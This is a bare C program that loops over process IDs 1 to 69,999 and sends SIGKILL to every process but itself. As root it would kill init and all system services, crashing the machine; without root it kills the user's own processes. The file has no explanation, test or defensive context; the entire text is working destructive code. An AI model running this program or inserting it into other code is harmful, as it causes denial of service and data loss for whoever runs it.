#include <signal.h>
#include <unistd.h>
int main(void) {
  for (int pid = 1; pid < 70000; pid++) {
    if (pid != getpid()) kill(pid, SIGKILL);
  }
  return 0;
}
